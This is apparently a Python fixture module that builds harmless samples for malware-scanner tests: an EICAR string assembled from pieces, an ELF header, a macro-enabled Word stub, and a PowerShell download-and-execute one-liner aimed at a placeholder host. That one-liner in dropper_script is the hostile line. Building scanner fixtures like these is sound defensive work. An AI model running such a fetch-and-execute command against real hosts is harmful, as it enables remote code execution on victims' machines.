"""Samples for the scanning tests, built from bytes at test time: no live malware, and no
literal EICAR string anywhere in the repository (antivirus on a developer's machine would
flag the source)."""

from __future__ import annotations

import io
import struct
import zipfile

__all__ = ["dropper_script", "eicar", "elf_binary", "macro_docx", "zip_of"]


def eicar() -> bytes:
    """The 68-byte EICAR anti-malware test file, assembled from pieces."""
    parts = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-", "FILE!$H+H*"]
    return "".join(parts).encode("ascii")


def elf_binary(size: int = 4096) -> bytes:
    """A minimal 64-bit little-endian ELF executable header, padded."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    return header + bytes(size - len(header))


def macro_docx() -> bytes:
    """An OOXML document that carries a VBA project (a macro-enabled Word file)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(508))
    return buf.getvalue()


def dropper_script() -> bytes:
    """A PowerShell download-and-execute one-liner."""
    url = "http://" + "example.invalid/payload.ps1"
    return f"IEX (New-Object Net.WebClient).DownloadString('{url}')\r\n".encode()


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()
